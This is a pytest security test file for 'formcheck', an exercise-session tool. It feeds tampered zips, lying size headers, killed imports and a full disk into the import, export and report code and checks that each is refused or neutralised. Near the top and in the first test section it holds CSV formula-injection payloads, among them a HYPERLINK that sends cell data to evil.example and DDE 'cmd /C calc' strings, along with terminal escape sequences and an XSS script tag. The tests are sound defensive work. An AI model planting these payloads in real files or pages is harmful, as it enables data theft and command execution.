"""Issue 16, as a hostile or unlucky user would try it: crafted zips, flipped bytes, size headers that
lie, formulas and escape sequences in names, a killed import, a damaged journal, a disk that fills
(a real tmpfs), settings out of any range. Real SQLite, real files, the real command line."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shutil
import stat
import struct
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import pytest
from synthetic import Script, frames, keyframes
from test_sessions_support import PRESCRIPTION, ListEstimator, PoseListSource, run_synthetic

from formcheck.cli import main
from formcheck.errors import FormcheckError
from formcheck.events import PainScore, PainStop
from formcheck.pipeline import run
from formcheck.report import write_json
from formcheck.sessions.exchange import export_session, import_session
from formcheck.sessions.journal import MAGIC, encode_json, encode_record, iter_records, read_journal
from formcheck.sessions.prescriptions import parse_prescription
from formcheck.sessions.recorder import Recorder
from formcheck.sessions.reports import CSV_COLUMNS, report_csv, report_html
from formcheck.sessions.storage import SessionStore
from formcheck.spec import EXERCISES_DIR, load_exercise, load_spec

TESTS = Path(__file__).resolve().parent
ROOT = TESTS.parent
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31m"
MARKUP = 'Ann "<script>alert(1)</script>" & Co, Jr.'
NOTE = 'Hands <b>behind</b> the thigh, "not" the shin & knee, <script>x</script>'


def _record(store: SessionStore, patient: str, prescription_toml: str | None = None, **settings):
    """One short, complete, real session (synthetic poses through the real pipeline)."""
    p = parse_prescription(prescription_toml, "rx.toml") if prescription_toml else None
    config = p.exercises[0].config if p else load_exercise("knee_to_chest", "single", {"hold_s": 3.0})
    rec = Recorder(
        store,
        config,
        source_name="synthetic",
        fps=30.0,
        kind="replay",
        patient=patient,
        prescription_name="rx.toml" if p else None,
        prescription_toml=prescription_toml,
        step_index=1 if p else None,
    )
    rec.on_event(PainScore(0.0, "before", 3))
    run_synthetic([rec])
    return rec.session_id


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A data folder with a session whose patient name is a formula carrying terminal escapes."""
    root = tmp_path_factory.mktemp("hostile")
    store = SessionStore(root / "data")
    sid = _record(store, FORMULA + ESCAPES)
    good = export_session(store, sid, root / "good.zip")
    return store, sid, good


def _members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n) for n in z.namelist()}


def _rezip(src: Path, dst: Path, meta_edit=None, manifest_edit=None, journal: bytes | None = None) -> Path:
    """The export ``src`` rewritten as an attacker would: the journal's header edited (or the journal
    replaced), then the manifest's sizes and checksums made to match, so only the content is wrong."""
    m = _members(src)
    data = m["journal.fcj"] if journal is None else journal
    if meta_edit is not None:
        out = [MAGIC]
        for kind, payload, _ in iter_records(data):
            if kind == b"M"[0]:
                meta = json.loads(payload)
                meta_edit(meta)
                out.append(encode_json(b"M", meta))
            else:
                out.append(encode_record(bytes([kind]), payload))
        data = b"".join(out)
    m["journal.fcj"] = data
    manifest = json.loads(m["manifest.json"])
    for name in manifest["files"]:
        manifest["files"][name] = {"size": len(m[name]), "sha256": hashlib.sha256(m[name]).hexdigest()}
    if manifest_edit is not None:
        manifest_edit(manifest)
    m["manifest.json"] = json.dumps(manifest).encode()
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as z:
        for n, d in m.items():
            z.writestr(n, d)
    return dst


def _refused(store: SessionStore, path: Path, fragment: str) -> str:
    before = sorted(p.name for p in store.sessions_dir.iterdir())
    with pytest.raises(FormcheckError) as info:
        import_session(store, path)
    message = info.value.message
    assert fragment in message, message
    assert "\n" not in message
    assert sorted(p.name for p in store.sessions_dir.iterdir()) == before  # nothing kept, no staging
    return message


# --- 1. formulas in the therapist's spreadsheet, escapes in the terminal --------------------------


def test_a_formula_name_from_an_imported_zip_is_text_in_every_csv_and_no_escape_reaches_the_terminal(
    hostile, tmp_path, capsys
):
    _, sid, good = hostile
    data = str(tmp_path / "therapist")
    assert main(["import", str(good), "--data-dir", data]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "Imported session" in out
    assert main(["sessions", "list", "--data-dir", data]) == 0
    listing = capsys.readouterr().out
    assert "\x1b" not in listing and "\x07" not in listing
    csv_path = tmp_path / "r.csv"
    assert main(["report", sid, "-f", "csv", "-o", str(csv_path), "--data-dir", data]) == 0
    rows = list(csv.reader(io.StringIO(csv_path.read_text())))
    patient_cells = [r[CSV_COLUMNS.index("patient")] for r in rows[1:]]
    assert patient_cells and all(c.startswith("'=HYPERLINK(") for c in patient_cells)
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row), row


def test_every_formula_start_is_neutralised_in_the_csv_report(tmp_path):
    store = SessionStore(tmp_path)
    for name in ("+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0"):
        sid = _record(store, name)
        rows = list(csv.DictReader(io.StringIO(report_csv(store.load(sid)))))
        assert rows and all(r["patient"] == "'" + name for r in rows)


def test_an_error_quoting_a_file_prints_no_escape_sequence(tmp_path, capsys):
    bad = tmp_path / "p.toml"
    bad.write_text(f'patient = "A"\n[[exercise]]\nname = "knee{ESCAPES.encode("unicode_escape").decode()}"\n')
    bad.write_text('patient = "A"\n[[exercise]]\nname = "knee\\u001b[2J\\u0007"\nsets = 1\nreps = 1\n')
    assert main(["prescription", "check", str(bad)]) == 2
    err = capsys.readouterr().err
    assert "Unknown exercise" in err and "\x1b" not in err and "\x07" not in err


# --- 2. an exercise named by a path ---------------------------------------------------------------


def test_an_imported_session_cannot_name_a_file_as_its_exercise(hostile, tmp_path):
    _, _, good = hostile
    planted = tmp_path / "elsewhere" / "knee_to_chest.toml"
    planted.parent.mkdir()
    shutil.copy(EXERCISES_DIR / "knee_to_chest.toml", planted)  # a file that would load fine
    evil = _rezip(good, tmp_path / "path.zip", meta_edit=lambda m: m.update(exercise=str(planted)))
    _refused(SessionStore(tmp_path / "t"), evil, "which this formcheck does not have")


def test_a_prescription_carried_in_a_zip_cannot_name_a_file_as_its_exercise(hostile, tmp_path):
    _, _, good = hostile
    planted = tmp_path / "knee_to_chest.toml"
    shutil.copy(EXERCISES_DIR / "knee_to_chest.toml", planted)
    rx = PRESCRIPTION.replace('name = "knee_to_chest"', f'name = "{planted}"')
    evil = _rezip(good, tmp_path / "rx.zip", meta_edit=lambda m: m.update(prescription_toml=rx))
    _refused(SessionStore(tmp_path / "t"), evil, "prescription it carries is not valid")
    with pytest.raises(FormcheckError, match="Unknown exercise"):
        parse_prescription(rx, "rx.toml")


# --- 3. format versions ---------------------------------------------------------------------------


def test_a_newer_manifest_or_journal_format_is_refused_naming_both_versions(hostile, tmp_path):
    _, _, good = hostile
    target = SessionStore(tmp_path / "t")
    newer = _rezip(good, tmp_path / "m99.zip", manifest_edit=lambda m: m.update(version=99))
    message = _refused(target, newer, "format 99")
    assert "format 1 " in message
    newer = _rezip(good, tmp_path / "j99.zip", meta_edit=lambda m: m.update(format=99))
    message = _refused(target, newer, "format 99")
    assert "format 1 " in message


# --- 4. damaged zips ------------------------------------------------------------------------------


def _local_data_span(path: Path, member: str) -> tuple[int, int]:
    """Where ``member``'s (compressed) bytes lie in the zip file."""
    raw = path.read_bytes()
    with zipfile.ZipFile(path) as z:
        info = z.getinfo(member)
    name_len, extra_len = struct.unpack_from("<HH", raw, info.header_offset + 26)
    start = info.header_offset + 30 + name_len + extra_len
    return start, start + info.compress_size


def test_one_flipped_byte_is_one_sentence_and_nothing_is_kept(hostile, tmp_path):
    _, _, good = hostile
    start, end = _local_data_span(good, "journal.fcj")
    for k, offset in enumerate((start + 7, (start + end) // 2, end - 3)):
        raw = bytearray(good.read_bytes())
        raw[offset] ^= 0x5A
        flipped = tmp_path / f"flip{k}.zip"
        flipped.write_bytes(bytes(raw))
        with pytest.raises(FormcheckError) as info:
            import_session(SessionStore(tmp_path / f"t{k}"), flipped)
        assert "was not imported" in info.value.message and "\n" not in info.value.message
        assert list((tmp_path / f"t{k}" / "sessions").iterdir()) == []


def _patch_sizes(path: Path, member: str, size: int) -> None:
    """Make both of ``member``'s zip headers (local and central) declare ``size`` uncompressed bytes."""
    raw = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as z:
        info = z.getinfo(member)
        pos = z.start_dir  # the central directory
    struct.pack_into("<I", raw, info.header_offset + 22, size)
    patched = 0
    while raw[pos : pos + 4] == b"PK\x01\x02":
        n_len, x_len, c_len = struct.unpack_from("<HHH", raw, pos + 28)
        if raw[pos + 46 : pos + 46 + n_len] == member.encode():
            struct.pack_into("<I", raw, pos + 24, size)
            patched += 1
        pos += 46 + n_len + x_len + c_len
    assert patched == 1
    path.write_bytes(bytes(raw))


@pytest.mark.parametrize("delta", [-100, +100])
def test_a_size_header_that_lies_is_one_sentence(hostile, tmp_path, delta):
    _, _, good = hostile
    true_size = len(_members(good)["journal.fcj"])
    lying = tmp_path / "lie.zip"
    # The manifest agrees with the lie, as an attacker would make it.
    _rezip(good, lying, manifest_edit=lambda m: m["files"]["journal.fcj"].update(size=true_size + delta))
    _patch_sizes(lying, "journal.fcj", true_size + delta)
    _refused(SessionStore(tmp_path / "t"), lying, "was not imported")


def test_a_cut_off_zip_is_one_sentence(hostile, tmp_path):
    _, _, good = hostile
    raw = good.read_bytes()
    for k, keep in enumerate((len(raw) // 2, len(raw) - 30)):
        cut = tmp_path / f"cut{k}.zip"
        cut.write_bytes(raw[:keep])
        _refused(SessionStore(tmp_path / f"t{k}"), cut, "was not imported")


def test_a_deeply_nested_manifest_is_one_sentence(hostile, tmp_path):
    _, _, good = hostile
    m = _members(good)
    m["manifest.json"] = b"[" * 30_000 + b"]" * 30_000
    deep = tmp_path / "deep.zip"
    with zipfile.ZipFile(deep, "w", zipfile.ZIP_DEFLATED) as z:
        for n, d in m.items():
            z.writestr(n, d)
    _refused(SessionStore(tmp_path / "t"), deep, "manifest is not valid JSON")


# --- 5. a killed import ---------------------------------------------------------------------------

KILL_AT_RENAME = textwrap.dedent(
    """
    import os, signal, sys
    sys.path.insert(0, {root!r})
    from formcheck.sessions import exchange
    from formcheck.sessions.storage import SessionStore

    real = os.replace
    def replace(src, dst):
        # Killed (power cut, kill -9) just before the staged session is moved into place.
        if os.path.basename(str(src)).startswith(".import-"):
            os.kill(os.getpid(), signal.SIGKILL)
        return real(src, dst)
    exchange.os.replace = replace
    exchange.import_session(SessionStore({data!r}), {zip!r}, replace={replace!r})
    """
)


def _killed_import(data: Path, zip_path: Path, replace: bool) -> None:
    code = KILL_AT_RENAME.format(root=str(ROOT), data=str(data), zip=str(zip_path), replace=replace)
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, timeout=120)
    assert proc.returncode == -9, proc.stderr.decode()[-2000:]


def test_a_killed_import_leaves_no_phantom_session(hostile, tmp_path, capsys):
    _, sid, good = hostile
    data = tmp_path / "data"
    SessionStore(data)
    _killed_import(data, good, replace=False)
    assert any(p.name.startswith(".import-") for p in (data / "sessions").iterdir())  # what it left
    assert main(["sessions", "list", "--data-dir", str(data), "--json"]) == 0
    out = capsys.readouterr()
    assert json.loads(out.out) == [] and "recovered" not in out.err
    assert list((data / "sessions").iterdir()) == []  # staging cleaned up
    assert main(["import", str(good), "--data-dir", str(data)]) == 0  # and the import can be done again


def test_a_killed_replace_puts_the_old_session_back(hostile, tmp_path, capsys):
    _, sid, good = hostile
    data = tmp_path / "data"
    store = SessionStore(data)
    import_session(store, good)
    journal_before = (data / "sessions" / sid / "journal.fcj").read_bytes()
    _killed_import(data, good, replace=True)
    names = sorted(p.name for p in (data / "sessions").iterdir())
    assert f".replaced-{sid}" in names and sid not in names  # killed between the two renames
    assert main(["sessions", "list", "--data-dir", str(data), "--json"]) == 0
    listed = json.loads(capsys.readouterr().out)
    assert [s["id"] for s in listed] == [sid] and listed[0]["status"] == "complete"
    assert sorted(p.name for p in (data / "sessions").iterdir()) == [sid]
    assert (data / "sessions" / sid / "journal.fcj").read_bytes() == journal_before


# --- 6. a damaged journal of a complete session ---------------------------------------------------


def _flip_in_first_frames(journal: Path) -> None:
    raw = bytearray(journal.read_bytes())
    for kind, payload, end in iter_records(bytes(raw)):
        if kind == b"F"[0]:
            raw[end - len(payload) // 2] ^= 0xFF
            break
    journal.write_bytes(bytes(raw))


def test_rebuild_keeps_the_database_record_of_a_complete_session_whose_journal_is_damaged(tmp_path, capsys):
    store = SessionStore(tmp_path / "data")
    sid = _record(store, "Ann")
    before = store.load(sid)
    assert before.row.status == "complete" and len(before.reps) >= 1
    _flip_in_first_frames(store.sessions_dir / sid / "journal.fcj")
    assert main(["sessions", "rebuild", "--data-dir", str(store.root)]) == 0
    after = SessionStore(store.root).load(sid)
    assert after.row.status == "complete" and after.reps == before.reps
    assert after.row.report == before.row.report and after.row.pain_before == 3


def test_export_refuses_a_session_import_would_refuse(tmp_path, capsys):
    store = SessionStore(tmp_path / "data")
    sid = _record(store, "Ann")
    _flip_in_first_frames(store.sessions_dir / sid / "journal.fcj")
    out = tmp_path / "x.zip"
    assert main(["export", sid, "-o", str(out), "--data-dir", str(store.root)]) == 2
    err = capsys.readouterr().err
    assert "cannot be exported" in err and err.count("\n") == 1
    assert not out.exists()


def test_a_killed_sessions_torn_journal_is_exported_up_to_its_last_record_and_imports(tmp_path):
    store = SessionStore(tmp_path / "data")
    sid = _record(store, "Ann")
    journal = store.sessions_dir / sid / "journal.fcj"
    raw = journal.read_bytes()
    ends = [end for kind, _, end in iter_records(raw) if kind == b"F"[0]]
    journal.write_bytes(raw[: ends[5] + 40])  # killed mid-write: 40 bytes of a record torn off
    with store._db() as db:  # (as the killed recording left its row)
        db.execute("UPDATE sessions SET status = 'recording', report = NULL WHERE id = ?", (sid,))
    store = SessionStore(store.root)  # recovers it
    assert store.recovered == [sid] and store.get_row(sid).status == "interrupted"
    out = export_session(store, sid, tmp_path / "torn.zip")
    other = SessionStore(tmp_path / "other")
    assert import_session(other, out) == sid
    row = other.get_row(sid)
    assert row.status == "interrupted" and row.frames == store.get_row(sid).frames


# --- 7. a disk that fills mid-recording (a real tmpfs) --------------------------------------------


@pytest.fixture
def small_disk(tmp_path):
    """A real 8 MB tmpfs, mounted for the test (needs root; skipped where mounting is not allowed)."""
    mount = tmp_path / "disk"
    mount.mkdir()
    if os.geteuid() != 0 or shutil.which("mount") is None:
        pytest.skip("mounting a tmpfs needs root")
    proc = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=8m,mode=0700", "tmpfs", str(mount)], capture_output=True
    )
    if proc.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {proc.stderr.decode().strip()}")
    try:
        yield mount
    finally:
        subprocess.run(["umount", "-l", str(mount)], check=False)


def _fill_leaving(disk: Path, free_bytes: int) -> None:
    st = os.statvfs(disk)
    room = st.f_bavail * st.f_frsize - free_bytes
    with open(disk / "filler", "wb") as f:
        f.write(b"\1" * max(0, room))


def test_a_disk_that_fills_mid_recording_is_said_kept_and_marked_disk_full(small_disk):
    from formcheck.sessions.recorder import RESERVE_BYTES

    store = SessionStore(small_disk / "data")
    _fill_leaving(small_disk, RESERVE_BYTES + 120_000)  # room for about a quarter of the session
    problems: list[str] = []
    config = load_exercise("knee_to_chest", "single", {"hold_s": 3.0})
    rec = Recorder(store, config, source_name="s", fps=30.0, kind="replay", on_problem=problems.append)
    result = run_synthetic([rec], world=True)
    assert result.frames == 630  # the pipeline itself ran to the end
    assert problems and "disk is full" in problems[0]
    row = store.get_row(rec.session_id)
    assert row.status == "disk_full" and "disk is full" in (row.message or "")
    kept = read_journal(rec.journal_path)
    n_kept = sum(len(c) for c in kept.chunks)
    assert 0 < n_kept < result.frames and row.frames == n_kept
    assert kept.clean and kept.summary is not None and kept.summary["status"] == "disk_full"
    # Reopened later (recovery runs) and rebuilt from the files: still what the docs promise.
    assert SessionStore(store.root).get_row(rec.session_id).status == "disk_full"
    SessionStore(store.root, recover=False, init_db=False).rebuild()
    assert SessionStore(store.root).get_row(rec.session_id).status == "disk_full"


@pytest.mark.slow
def test_cli_recording_onto_a_full_disk_exits_non_zero_and_says_so(small_disk, capsys):
    from formcheck.sessions.recorder import RESERVE_BYTES

    data = small_disk / "data"
    SessionStore(data)
    _fill_leaving(small_disk, RESERVE_BYTES + 40_000)
    clip = ROOT / "sample_videos" / "empty_room.mp4"
    code = main(["sessions", "record", str(clip), "-e", "knee_to_chest", "--data-dir", str(data)])
    out = capsys.readouterr()
    assert code != 0 and "Recorded as session" not in out.out
    assert "disk is full" in out.err and "disk_full" in out.err
    rows = SessionStore(data).list_sessions()
    assert len(rows) == 1 and rows[0].status == "disk_full" and 0 < (rows[0].frames or 0) < 300


# --- 8. limits ------------------------------------------------------------------------------------


@pytest.mark.parametrize("key", ["hold_s", "target_deg", "max_speed_deg_s", "cue_repeat_s"])
def test_settings_past_their_range_are_refused_from_set_and_prescriptions(tmp_path, capsys, key):
    assert main(["analyze", "pyproject.toml", "-e", "knee_to_chest", "--set", f"{key}=1e300"]) == 2
    err = capsys.readouterr().err
    assert f"'{key}' must be between" in err and err.count("\n") == 1
    rx = PRESCRIPTION.replace("rest_s = 30", f"rest_s = 30\nsettings = {{ {key} = 1e300 }}")
    if key in ("hold_s", "target_deg"):
        rx = PRESCRIPTION.replace(f"{key} = ", f"{key} = 1e300 #")
    with pytest.raises(FormcheckError, match=f"'{key}' must be between"):
        parse_prescription(rx, "rx.toml")


def test_rest_and_limit_have_ranges_in_prescriptions():
    with pytest.raises(FormcheckError, match="'rest_s' must be between 0 and 600"):
        parse_prescription(PRESCRIPTION.replace("rest_s = 30", "rest_s = 1e300"), "rx.toml")
    with pytest.raises(FormcheckError, match="'limit_deg' must be between 0 and 180"):
        parse_prescription(PRESCRIPTION.replace("limit_deg = 130", "limit_deg = 1e300"), "rx.toml")


def test_every_setting_has_a_range_shown_by_formcheck_exercises(capsys):
    assert main(["exercises"]) == 0
    out = " ".join(capsys.readouterr().out.split())  # (the listing wraps its lines)
    for path in sorted(EXERCISES_DIR.glob("*.toml")):
        spec = load_spec(path)
        assert set(spec.ranges) >= set(spec.params)
        for key, value in spec.params.items():
            low, high = spec.ranges[key]
            assert low <= value <= high
            assert f"{key} {value:g} ({low:g} to {high:g})" in out or key not in path.read_text()


def test_an_exercise_file_setting_without_a_range_is_refused(tmp_path):
    text = (EXERCISES_DIR / "knee_to_chest.toml").read_text().replace("hold_s = [0.0, 120.0]", "")
    broken = tmp_path / "knee_to_chest.toml"
    broken.write_text(text)
    with pytest.raises(FormcheckError, match="'params.hold_s' has no range"):
        load_spec(broken)


def test_an_oversized_prescription_is_refused_in_one_sentence():
    entry = '[[exercise]]\nname = "knee_to_chest"\nsets = 1\nreps = 1\n'
    with pytest.raises(FormcheckError, match="18000 exercises, more than the 50") as info:
        parse_prescription('patient = "A"\n' + entry * 18_000, "big.toml")
    assert "\n" not in info.value.message
    with pytest.raises(FormcheckError, match="longer than 2000 characters"):
        parse_prescription('patient = "' + "A" * 5000 + '"\n' + entry, "long.toml")


@pytest.mark.parametrize("depth", [2_000, 200_000])
def test_deep_nesting_is_one_sentence_not_a_recursion_error(tmp_path, depth):
    nested = "x = " + "[" * depth + "]" * depth + "\n"
    with pytest.raises(FormcheckError) as info:
        parse_prescription(nested + 'patient = "A"\n', "deep.toml")
    assert "\n" not in info.value.message
    broken = tmp_path / "knee_to_chest.toml"
    broken.write_text(nested + (EXERCISES_DIR / "knee_to_chest.toml").read_text())
    with pytest.raises(FormcheckError) as info:
        load_spec(broken)
    assert "\n" not in info.value.message


# --- 9. settings without -e -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "args,fragment",
    [
        (["--set", "bogus=3"], "'bogus' is not a setting of any exercise"),
        (["-v", "single"], "--variant single needs --exercise"),
        (["--set", "hold_s=1000"], "outside every exercise's range"),
        (["--set", "count_deg=1e300"], "outside every exercise's range"),
    ],
)
@pytest.mark.parametrize("command", [["analyze"], ["analyze", "--record"], ["sessions", "record"]])
def test_settings_without_an_exercise_are_checked_not_dropped(tmp_path, capsys, command, args, fragment):
    # The video is not read at all: the settings are refused first.
    code = main([*command, str(tmp_path / "no-such.mp4"), *args, "--data-dir", str(tmp_path / "d")])
    err = capsys.readouterr().err
    assert code == 2 and fragment in err and err.count("\n") == 1


def test_a_setting_valid_for_the_recognised_exercise_only_is_applied_and_checked_there():
    from formcheck.segments import settings_for

    assert settings_for({"count_deg": 10.0, "hold_s": 5.0}, "knee_to_chest") == {"hold_s": 5.0}
    with pytest.raises(FormcheckError, match="'hold_s' must be between 0 and 60 for side_bend"):
        load_exercise("side_bend", None, settings_for({"hold_s": 90.0}, "side_bend"))


# --- 10. --json is private ------------------------------------------------------------------------


def test_json_reports_are_written_0600(tmp_path):
    old = os.umask(0o022)
    try:
        write_json(tmp_path / "r.json", {"reps": []})
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "r.json").stat().st_mode) == 0o600


# --- 11. the reports' escaping and quoting, the checksums of every member -------------------------


def test_names_notes_and_prescriptions_with_markup_and_commas_survive_html_and_csv(tmp_path):
    rx = PRESCRIPTION.replace('patient = "Ann Example"', f"patient = {json.dumps(MARKUP)}").replace(
        'notes = "Hands behind the thigh, not on the shin."', f"notes = {json.dumps(NOTE)}"
    )
    store = SessionStore(tmp_path)
    p = parse_prescription(rx, "rx.toml")
    rec = Recorder(
        store,
        p.exercises[0].config,
        source_name='cam, "0" <b>',
        fps=30.0,
        kind="replay",
        patient=p.patient,
        prescription_name="rx.toml",
        prescription_toml=rx,
        step_index=1,
    )
    script = Script(
        "supine", 12.0, {"left_flex": keyframes([(0, 0), (2, 0), (4, 110), (8, 110), (10, 0)])}, seed=3
    )
    poses = frames(script)
    rec.on_event(PainScore(0.0, "before", 2))
    rec.on_event(PainStop(11.0, 5, NOTE))
    run(PoseListSource(poses), ListEstimator(poses), p.exercises[0].config, sinks=(rec,), prefetch=False)
    data = store.load(rec.session_id)
    page = report_html(data)
    assert "<script>" not in page and "<b>behind" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "&amp; Co, Jr." in page
    assert "Hands &lt;b&gt;behind&lt;/b&gt; the thigh, &quot;not&quot; the shin &amp; knee" in page
    rows = list(csv.reader(io.StringIO(report_csv(data))))
    assert rows[0] == list(CSV_COLUMNS) and len(rows) == 1 + len(data.reps) >= 2
    assert all(len(r) == len(CSV_COLUMNS) for r in rows)
    assert all(r[CSV_COLUMNS.index("patient")] == MARKUP for r in rows[1:])


def test_a_tampered_video_member_is_refused_by_its_checksum(hostile, tmp_path):
    store, sid, _ = hostile
    video = store.sessions_dir / sid / "video.mp4"
    video.write_bytes(b"\0\0\0\x18ftypmp42" + os.urandom(4000))
    try:
        good = export_session(store, sid, tmp_path / "v.zip")
    finally:
        video.unlink()
    m = _members(good)
    assert set(m) == {"manifest.json", "journal.fcj", "video.mp4"}
    for k, edit in enumerate((lambda v: v[:100] + b"X" + v[101:], lambda v: v + b"\0")):
        m2 = dict(m, **{"video.mp4": edit(m["video.mp4"])})
        if k == 1:  # a longer video with a manifest that agrees on the size: only the checksum tells
            manifest = json.loads(m2["manifest.json"])
            manifest["files"]["video.mp4"]["size"] += 1
            m2["manifest.json"] = json.dumps(manifest).encode()
        bad = tmp_path / f"bad{k}.zip"
        with zipfile.ZipFile(bad, "w") as z:
            for n, d in m2.items():
                z.writestr(n, d)
        _refused(SessionStore(tmp_path / f"t{k}"), bad, "'video.mp4' does not match its checksum")


def test_video_is_off_unless_turned_on(tmp_path):
    from formcheck.cli import build_parser

    parser = build_parser()
    for argv in (["sessions", "record", "x.mp4"], ["analyze", "x.mp4", "--record"]):
        assert parser.parse_args(argv).keep_video is False
    store = SessionStore(tmp_path)
    sid = _record(store, "Ann")
    assert not store.get_row(sid).has_video
    assert sorted(p.name for p in (store.sessions_dir / sid).iterdir()) == ["journal.fcj"]


def test_recording_reporting_exporting_and_importing_open_no_network_connection(tmp_path, monkeypatch):
    import socket

    def refuse(*args, **kwargs):
        raise AssertionError("formcheck tried to open a network connection")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    store = SessionStore(tmp_path / "a")
    sid = _record(store, "Ann", PRESCRIPTION)
    report_html(store.load(sid))
    report_csv(store.load(sid))
    out = export_session(store, sid, tmp_path / "s.zip")
    assert import_session(SessionStore(tmp_path / "b"), out) == sid


def test_a_prescription_note_drawn_over_the_picture_carries_no_control_characters():
    from formcheck.sessions.routine import Routine

    rx = PRESCRIPTION.replace(
        'notes = "Hands behind the thigh, not on the shin."',
        'notes = "Hands\\u001b[2J behind\\u0007 the thigh."',
    )
    routine = Routine(parse_prescription(rx, "rx.toml"))
    routine.set_pain_before(2)
    assert "Hands[2J behind the thigh." in routine.message and "\x1b" not in routine.message
